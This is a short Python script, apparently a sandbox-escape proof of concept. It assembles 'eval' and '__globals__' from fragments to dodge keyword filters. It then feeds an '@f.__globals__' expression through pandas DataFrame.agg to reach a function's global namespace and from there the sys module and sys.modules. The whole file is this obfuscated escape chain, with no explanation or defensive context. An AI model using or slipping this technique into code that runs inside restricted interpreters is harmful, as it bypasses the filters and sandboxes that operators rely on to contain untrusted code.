import pandas as pd
df = pd.DataFrame({"a": [1, 2]})
def f(x): return x
name = "".join(["ev", "al"])
mark = chr(95) * 2
frame_names = df.agg(name, 0, f"@f.{mark}globals{mark}")
print("REACHED", [k for k in frame_names if k in ("sys", "warnings", "collections")])
found = frame_names["s" + "ys"]
match found:
    case object(modules=m): pass
